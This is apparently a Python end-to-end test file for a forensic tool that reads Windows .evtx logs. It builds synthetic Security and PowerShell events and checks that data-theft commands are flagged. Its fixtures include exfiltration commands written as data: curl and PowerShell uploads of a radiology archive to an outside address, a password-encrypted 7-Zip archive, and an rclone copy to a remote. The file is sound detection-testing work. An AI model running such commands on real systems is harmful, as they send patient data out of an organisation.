# e2e_evtx.py - issue 14: Windows .evtx files read through libevtx (phitrace-evtx). Loaded by
# run_e2e.py (shared namespace: private helpers start with _evtx_). The files are written by
# tests/e2e/evtxw.py from libyal's format documentation, each checked with two independent
# readers (python-evtx and libevtx-utils' evtxexport) before phitrace reads it; the expected
# rows are written below from the events themselves, before running phitrace.
import subprocess as _evtx_sp

import evtxw as _evtxw

_EVTX_SEC = "Microsoft-Windows-Security-Auditing"
_EVTX_T0 = 1704448800000000  # 2024-01-05 10:00:00 UTC


def _evtx_ev(eid, sec, data, provider=_EVTX_SEC, channel="Security", computer="WS07.hosp.local"):
    return {"provider": provider, "event_id": eid, "ts_us": _EVTX_T0 + sec * 1000000,
            "channel": channel, "computer": computer, "data": data}


def _evtx_subject(user="jdoe"):
    return [("SubjectUserSid", "S-1-5-21-1-2-3-1104"), ("SubjectUserName", user),
            ("SubjectDomainName", "HOSP"), ("SubjectLogonId", "0x3e7")]


def _evtx_security_events():
    """The Security log of a workstation: a logon, a failed one, explicit credentials, a
    file read, a process, three filtering platform decisions, and 401 events of identifiers
    that give no row (4672 special privileges, 4634 logoff) so the file spans two chunks."""
    evs = [
        _evtx_ev(4624, 0, _evtx_subject("WS07$") + [
            ("TargetUserName", "jdoe"), ("TargetDomainName", "HOSP"), ("LogonType", "3"),
            ("ProcessName", "-"), ("IpAddress", "::ffff:10.2.0.9"), ("IpPort", "50211")]),
        _evtx_ev(4625, 5, _evtx_subject("-") + [
            ("TargetUserName", "admin"), ("TargetDomainName", "HOSP"), ("Status", "0xc000006d"),
            ("SubStatus", "0xc000006a"), ("LogonType", "10"), ("IpAddress", "203.0.113.9"),
            ("IpPort", "40222")]),
        _evtx_ev(4648, 10, _evtx_subject() + [
            ("TargetUserName", "svc_backup"), ("TargetDomainName", "HOSP"),
            ("TargetServerName", "fs01.hosp.local"),
            ("ProcessName", "C:\\Windows\\System32\\net.exe"), ("IpAddress", "-"),
            ("IpPort", "-")]),
        _evtx_ev(4663, 20, _evtx_subject() + [
            ("ObjectServer", "Security"), ("ObjectType", "File"),
            ("ObjectName", "C:\\Shares\\Radiology\\export\\studies & notes.zip"),
            ("AccessMask", "0x1"), ("ProcessName", "C:\\Windows\\explorer.exe")]),
        _evtx_ev(4688, 30, _evtx_subject() + [
            ("NewProcessName", "C:\\Windows\\System32\\curl.exe"),
            ("CommandLine", "curl -T studies.zip \"https://203.0.113.50/up?a=1&b=<2>\""),
            ("ParentProcessName", "C:\\Windows\\System32\\cmd.exe")]),
        _evtx_ev(5156, 31, [
            ("ProcessID", "4242"),
            ("Application", "\\device\\harddiskvolume2\\windows\\system32\\curl.exe"),
            ("Direction", "%%14593"), ("SourceAddress", "10.2.0.7"), ("SourcePort", "51000"),
            ("DestAddress", "203.0.113.50"), ("DestPort", "443"), ("Protocol", "6")]),
        _evtx_ev(5156, 40, [
            ("ProcessID", "4"), ("Application", "System"), ("Direction", "%%14592"),
            ("SourceAddress", "10.2.0.7"), ("SourcePort", "3389"),
            ("DestAddress", "198.51.100.4"), ("DestPort", "50123"), ("Protocol", "6")]),
        _evtx_ev(5157, 50, [
            ("ProcessID", "4300"), ("Application", "C:\\tools\\ssh.exe"),
            ("Direction", "%%14593"), ("SourceAddress", "10.2.0.7"), ("SourcePort", "51001"),
            ("DestAddress", "198.51.100.20"), ("DestPort", "22"), ("Protocol", "6")]),
    ]
    for i in range(400):
        evs.append(_evtx_ev(4672, 60 + i, _evtx_subject() + [("PrivilegeList", "SeBackupPrivilege")]))
    evs.append(_evtx_ev(4634, 500, [("TargetUserName", "jdoe"), ("TargetDomainName", "HOSP"),
                                    ("TargetLogonId", "0x1234"), ("LogonType", "3")]))
    return evs


def _evtx_ps_events():
    script = ("$f = 'C:\\x\\studies.zip'\r\nInvoke-WebRequest -Uri https://203.0.113.50/up "
              "-Method Put -InFile $f\r\n")
    return [_evtx_ev(4104, 35, [("MessageNumber", "1"), ("MessageTotal", "1"),
                                ("ScriptBlockText", script),
                                ("ScriptBlockId", "5b1c3f9e-0d7a-4c8e-9a51-2f0e7e3a9c11"),
                                ("Path", "C:\\tools\\up.ps1")],
                     provider="Microsoft-Windows-PowerShell",
                     channel="Microsoft-Windows-PowerShell/Operational")], len(script)


_EVTX_OFFSETS = {}  # file name -> {record identifier: byte offset}, as the writer put them


def _evtx_write(name, events, slack=32):
    w = _evtxw.Writer(slack)
    for ev in events:
        w.add(ev)
    data = w.write()
    _EVTX_OFFSETS[name] = w.offsets
    return _logs_dir(name, {name + ".evtx": data})[0], data


def _evtx_check_independently(path, events):
    """python-evtx and evtxexport read every record of the file as written."""
    import re as _re
    try:
        import Evtx.Evtx as pyevtx
    except ImportError:
        raise Skip("python3-evtx not installed (make test-deps)")
    if shutil.which("evtxexport") is None:
        raise Skip("evtxexport not installed (libevtx-utils; make test-deps)")
    with pyevtx.Evtx(path) as log:
        seen = [(r.record_num(), r.lxml().find(
            "{http://schemas.microsoft.com/win/2004/08/events/event}System/"
            "{http://schemas.microsoft.com/win/2004/08/events/event}EventID").text)
                for r in log.records()]
    want = [(i + 1, str(ev["event_id"])) for i, ev in enumerate(events)]
    assert seen == want, ("python-evtx", seen[:5], want[:5])
    p = _evtx_sp.run(["evtxexport", "-f", "xml", path], capture_output=True, text=True,
                     timeout=120)
    assert p.returncode == 0, p.stderr
    ids = [int(x) for x in _re.findall(r"<EventRecordID>(\d+)</EventRecordID>", p.stdout)]
    assert ids == list(range(1, len(events) + 1)), ("evtxexport", ids[:5], len(ids))
    for ev in events[:8]:
        for k, v in ev["data"]:
            if "\n" in v:  # evtxexport writes line ends its own way
                continue
            esc = v.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
            assert ('<Data Name="%s">%s</Data>' % (k, esc)) in p.stdout or \
                   ('<Data Name="%s">%s</Data>' % (k, esc.replace('"', "&quot;"))) in \
                   p.stdout, (k, v)


def _evtx_need_reader():
    reader = os.path.join(os.path.dirname(BIN), "phitrace-evtx")
    if not os.path.exists(reader):
        raise Skip("phitrace-evtx not built beside the binary (make phitrace-evtx)")


@test
def evtx_security_and_powershell_events_become_rows_and_flows():
    """A Security log (402 + 8 records over two chunks) and a PowerShell Operational log.
    Written before running: seven Windows event rows (the logon with its client address
    unmapped from ::ffff:, the failed logon's status, the explicit credentials' target server,
    the object read with its decoded '&', the process's command line, the script block's
    length without its text), the record identifier as each row's line; the outbound 5156 a
    flow 10.2.0.7:51000 -> 203.0.113.50:443 of source evtx, the inbound one a flow from
    198.51.100.4 to 10.2.0.7:3389, the 5157 blocked; 401 records counted as other with their
    identifiers; every record accounted for."""
    _evtx_need_reader()
    sec = _evtx_security_events()
    ps, script_len = _evtx_ps_events()
    psec, _ = _evtx_write("Security", sec)
    pps, _ = _evtx_write("PowerShell", ps)
    _evtx_check_independently(psec, sec)
    _evtx_check_independently(pps, ps)
    t = lambda s: _EVTX_T0 + s * 1000000  # noqa: E731
    want = sorted([
        (1, t(0), 4624, "logon", "Security", "WS07.hosp.local", "HOSP\\WS07$", "HOSP\\jdoe", 3,
         "10.2.0.9", 50211, None, None, None, None, None, None, 0),
        (2, t(5), 4625, "logon_failed", "Security", "WS07.hosp.local", None, "HOSP\\admin", 10,
         "203.0.113.9", 40222, None, None, None, None, "0xc000006d/0xc000006a", None, 0),
        (3, t(10), 4648, "explicit_logon", "Security", "WS07.hosp.local", "HOSP\\jdoe",
         "HOSP\\svc_backup", None, None, None, "fs01.hosp.local",
         "C:\\Windows\\System32\\net.exe", None, None, None, None, 0),
        (4, t(20), 4663, "object_access", "Security", "WS07.hosp.local", "HOSP\\jdoe", None,
         None, None, None, None, "C:\\Windows\\explorer.exe", None,
         "C:\\Shares\\Radiology\\export\\studies & notes.zip", "0x1", None, 0),
        (5, t(30), 4688, "process", "Security", "WS07.hosp.local", "HOSP\\jdoe", None, None,
         None, None, None, "C:\\Windows\\System32\\curl.exe", "C:\\Windows\\System32\\cmd.exe",
         None, None, "curl -T studies.zip \"https://203.0.113.50/up?a=1&b=<2>\"", 0),
        (1, t(35), 4104, "script_block", "Microsoft-Windows-PowerShell/Operational",
         "WS07.hosp.local", None, None, None, None, None, None, None, None,
         "C:\\tools\\up.ps1", None, None, 0),
    ])
    c = case("evtx-security")
    run("analyze", "-q", "--home-net", "10.0.0.0/8", psec, pps, "-o", c, check=0)
    con = db(c)
    got = sorted(con.execute(
        "SELECT line, ts, event_id, kind, channel, computer, subject_user, target_user, "
        "logon_type, client_addr, client_port, target_server, process, parent, object, access, "
        "command, recovered FROM log_winevent").fetchall())
    assert got == want, "\n".join(map(repr, got))
    for table in ("log_winevent", "log_conn"):
        for path, line, off in con.execute("SELECT e.path, t.line, t.offset FROM %s t JOIN "
                                           "evidence_item e ON e.id = t.item_id" % table):
            name = os.path.basename(path)[:-len(".evtx")]
            assert off == _EVTX_OFFSETS[name][line], (table, name, line, off)
    sb = con.execute("SELECT script_id, part, parts, script_chars, source FROM log_winevent "
                     "WHERE event_id = 4104").fetchone()
    assert sb == ("5b1c3f9e-0d7a-4c8e-9a51-2f0e7e3a9c11", 1, 1, script_len, "evtx"), sb
    conns = sorted(con.execute(
        "SELECT line, source, proto, client_addr, client_port, server_addr, server_port, state, "
        "service, c_bytes FROM log_conn").fetchall())
    assert conns == [
        (6, "evtx", "tcp", "10.2.0.7", 51000, "203.0.113.50", 443, "allowed", "curl.exe", None),
        (7, "evtx", "tcp", "198.51.100.4", 50123, "10.2.0.7", 3389, "allowed", "System", None),
        (8, "evtx", "tcp", "10.2.0.7", 51001, "198.51.100.20", 22, "blocked", "ssh.exe", None),
    ], conns
    flows = sorted(con.execute("SELECT client_addr, client_port, server_addr, server_port, "
                               "first_ts, source FROM flow").fetchall())
    assert flows == [("10.2.0.7", 51000, "203.0.113.50", 443, t(31), "evtx"),
                     ("198.51.100.4", 50123, "10.2.0.7", 3389, t(40), "evtx")], flows
    roles = sorted(r[0] for r in con.execute("SELECT role FROM flow_source"))
    assert roles == ["blocked", "created", "created"], roles
    src = con.execute("SELECT lines, records, other, headers, blank, malformed, conn, winevent "
                      "FROM log_source WHERE path LIKE '%Security.evtx'").fetchone()
    assert src == (len(sec) + 3, 8, 401, 3, 0, 0, 3, 5), src
    note = con.execute("SELECT detail FROM anomaly WHERE kind = 'log.evtx_other_events'"
                       ).fetchall()
    assert note == [("evtx: 401 record(s) of event identifiers not read as rows, counted: "
                     "4672 x400 4634 x1",)], note
    times = con.execute("SELECT first_ts, last_ts, time_source FROM evidence_item WHERE path "
                        "LIKE '%Security.evtx'").fetchone()
    assert times == (t(0), t(500), "log lines"), times


@test
def evtx_damaged_file_keeps_what_was_read_and_says_what_was_not():
    """The Security log with its second chunk's event records overwritten (their CRC32 no
    longer matches) and, separately, cut inside that chunk: the first chunk's records are
    rows as before; what libevtx could not read is a limitation-grade anomaly, never a crash;
    and a file that is not EVTX past its signature is 'could not open'."""
    _evtx_need_reader()
    sec = _evtx_security_events()
    _, data = _evtx_write("whole", sec)
    chunk2 = 4096 + 65536
    damaged = bytearray(data)
    for k in range(chunk2 + 600, chunk2 + 4000):
        damaged[k] ^= 0x5A
    cut = data[:chunk2 + 3000]
    bogus = b"ElfFile\0" + b"\xff" * 200
    # a record that ends 2 bytes before its chunk's end: python-evtx reads it, libevtx
    # 20181227 passes over it without an error; the chunk headers still declare it
    _, tight = _evtx_write("tight", sec, slack=0)
    paths = _logs_dir("evtx-damaged", {"damaged.evtx": bytes(damaged), "cut.evtx": cut,
                                       "bogus.evtx": bogus, "tight.evtx": tight})
    c = case("evtx-damaged")
    run("analyze", "-q", *paths, "-o", c, check=None)
    con = db(c)
    per = {}
    for path, lines, records, other, malformed, winevent in con.execute(
            "SELECT path, lines, records, other, malformed, winevent FROM log_source"):
        per[os.path.basename(path)] = (lines, records, other, malformed, winevent)
    # the first chunk holds records 1-N1; all five Security rows are in it
    n1 = con.execute("SELECT count(*) FROM log_winevent w JOIN evidence_item e ON "
                     "e.id = w.item_id WHERE e.path LIKE '%damaged.evtx'").fetchone()[0]
    assert n1 == 5, n1
    assert per["damaged.evtx"][1] + per["damaged.evtx"][2] < len(sec), per
    assert per["cut.evtx"][1] + per["cut.evtx"][2] < len(sec), per
    kinds = {}
    for path, kind in con.execute("SELECT e.path, a.kind FROM anomaly a JOIN evidence_item e "
                                  "ON e.id = a.item_id WHERE a.kind LIKE 'log.evtx%'"):
        kinds.setdefault(os.path.basename(path), set()).add(kind)
    assert kinds.get("bogus.evtx") == {"log.evtx_unreadable"}, kinds
    for name in ("damaged.evtx", "cut.evtx"):
        assert kinds.get(name, set()) & {"log.evtx_corrupt", "log.evtx_record"}, (name, kinds)
    if per["tight.evtx"][1] + per["tight.evtx"][2] < len(sec):
        det = con.execute("SELECT a.detail FROM anomaly a JOIN evidence_item e ON e.id = "
                          "a.item_id WHERE e.path LIKE '%tight.evtx' AND a.kind = "
                          "'log.evtx_corrupt'").fetchall()
        miss = len(sec) - per["tight.evtx"][1] - per["tight.evtx"][2]
        assert det and det[0][0].endswith(": %d record(s) were not read" % miss), det
    lim = " ".join(r[0] for r in con.execute("SELECT detail FROM limitation"))
    assert "bogus.evtx" in lim or "could not open" in lim, lim


@test
def evtx_exfiltration_commands_are_findings():
    """Windows process creations weighed (heuristic exfil_command, verdict/heur_command.c).
    Written before running: of seven 4688 events, three are exfiltration commands and give
    one finding each: curl -T (an upload; the 5156 of curl.exe two seconds later names the
    host 10.2.0.7 and the destination 203.0.113.50), 7-Zip with -p and -mhe=on (an encrypted
    archive) and rclone copy to a remote (both on WS07.hosp.local, no connection of theirs in
    the log); a download with curl, 7-Zip without a password, notepad and an rclone listing
    are none."""
    _evtx_need_reader()

    def proc(sec, exe, cmd):
        return _evtx_ev(4688, sec, _evtx_subject() + [
            ("NewProcessName", exe), ("CommandLine", cmd),
            ("ParentProcessName", "C:\\Windows\\System32\\cmd.exe")])
    evs = [
        proc(0, "C:\\Windows\\System32\\curl.exe",
             "curl -o setup.exe https://198.51.100.9/setup.exe"),
        proc(10, "C:\\Program Files\\7-Zip\\7z.exe", "7z a notes.7z C:\\Users\\jdoe\\notes"),
        proc(20, "C:\\Program Files\\7-Zip\\7z.exe",
             "7z a -pW1nter2024 -mhe=on C:\\ProgramData\\x\\pt.7z C:\\Shares\\Radiology\\export"),
        proc(30, "C:\\Windows\\notepad.exe", "notepad C:\\Users\\jdoe\\todo.txt"),
        proc(40, "C:\\ProgramData\\x\\rclone.exe", "rclone.exe lsd mega:"),
        proc(50, "C:\\ProgramData\\x\\rclone.exe",
             "rclone.exe copy C:\\ProgramData\\x\\pt.7z mega:backup -q"),
        proc(60, "C:\\Windows\\System32\\curl.exe",
             "curl.exe -T C:\\ProgramData\\x\\pt.7z https://203.0.113.50/u"),
        _evtx_ev(5156, 62, [
            ("ProcessID", "4242"),
            ("Application", "\\device\\harddiskvolume2\\windows\\system32\\curl.exe"),
            ("Direction", "%%14593"), ("SourceAddress", "10.2.0.7"), ("SourcePort", "51000"),
            ("DestAddress", "203.0.113.50"), ("DestPort", "443"), ("Protocol", "6")]),
    ]
    path, _ = _evtx_write("Commands", evs)
    _evtx_check_independently(path, evs)
    c = case("evtx-commands")
    run("analyze", "-q", "--home-net", "10.0.0.0/8", path, "-o", c, check=0)
    got = db(c).execute("SELECT source, destination, json_extract(detail, '$.what'), "
                        "json_extract(detail, '$.command'), first_ts FROM finding WHERE "
                        "heuristic = 'exfil_command' ORDER BY first_ts").fetchall()
    t = lambda s: _EVTX_T0 + s * 1000000  # noqa: E731
    assert got == [
        ("WS07.hosp.local", "", "password-protected 7-Zip archive",
         "7z a -pW1nter2024 -mhe=on C:\\ProgramData\\x\\pt.7z C:\\Shares\\Radiology\\export",
         t(20)),
        ("WS07.hosp.local", "", "rclone copy to a remote",
         "rclone.exe copy C:\\ProgramData\\x\\pt.7z mega:backup -q", t(50)),
        ("10.2.0.7", "203.0.113.50", "curl upload",
         "curl.exe -T C:\\ProgramData\\x\\pt.7z https://203.0.113.50/u", t(60)),
    ], "\n".join(map(repr, got))
